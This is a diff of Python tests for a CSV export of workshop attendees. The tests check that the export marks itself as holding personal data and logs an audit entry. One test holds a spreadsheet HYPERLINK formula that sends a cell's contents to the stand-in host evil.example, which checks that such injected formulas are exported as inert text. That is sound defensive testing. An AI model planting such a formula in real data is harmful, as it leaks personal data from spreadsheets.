@@ -115,13 +115,12 @@ def test_the_export_is_a_csv_that_says_it_holds_personal_data(client, event, lab
 
     assert response.status_code == 200
     assert response["Content-Type"] == "text/csv; charset=utf-8"
-    assert response["Content-Disposition"] == 'attachment; filename="inscrits-atelier.csv"'
+    assert (
+        response["Content-Disposition"]
+        == 'attachment; filename="inscrits-atelier-donnees-personnelles.csv"'
+    )
     rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
     assert rows[0] == [
-        "Données personnelles : liste réservée aux organisateurs de l'événement, pour son "
-        "organisation uniquement. Ne pas diffuser ; supprimer après l'événement."
-    ]
-    assert rows[1] == [
         "Nom",
         "Adresse électronique",
         "Administration",
@@ -130,10 +129,19 @@ def test_the_export_is_a_csv_that_says_it_holds_personal_data(client, event, lab
         "Présence",
         "Inscrit le",
     ]
-    assert [row[:6] for row in rows[2:]] == [
+    assert [row[:6] for row in rows[1:3]] == [
         ["Paul Présent", "paul@exemple.gouv.fr", "DDT de l'Eure", "inscrit", "", "présent"],
         ["Wanda Waiting", "wanda@exemple.gouv.fr", "", "liste d'attente", "1", ""],
     ]
+    # The header row first; the personal-data notice after the rows, and in the name.
+    assert rows[3:] == [
+        [],
+        [
+            "Données personnelles : liste réservée aux organisateurs de l'événement, pour son "
+            "organisation uniquement. Ne pas diffuser ; supprimer après l'événement."
+        ],
+    ]
+    assert "donnees-personnelles" in response["Content-Disposition"]
     entry = AuditEntry.objects.get(action="events.event_attendees_export")
     assert entry.actor == lab_member
     assert entry.changes == {"rows": 2}
@@ -142,8 +150,9 @@ def test_the_export_is_a_csv_that_says_it_holds_personal_data(client, event, lab
 @pytest.mark.parametrize(
     ("url", "queries"),
     [
-        # session, user, event (+ places), the user's lab roles, the registrations
-        ("/evenements/atelier/presences/", 5),
+        # session, user, event (+ places), the user's lab roles, the registrations,
+        # + header labs
+        ("/evenements/atelier/presences/", 6),
         # the same, and the audit entry of the download (the chain head locked, the entry,
         # the head moved on: docs/adr/0015)
         ("/evenements/atelier/inscrits.csv", 8),
@@ -197,7 +206,7 @@ def test_the_export_writes_formulas_typed_by_visitors_as_text(client, event, lab
     response = client.get("/evenements/atelier/inscrits.csv")
 
     rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
-    assert [row[:3] for row in rows[2:]] == [
+    assert [row[:3] for row in rows[1:3]] == [
         [
             '\'=HYPERLINK("http://evil.example/?x="&B3,"Cliquez")',
             "eve@exemple.fr",
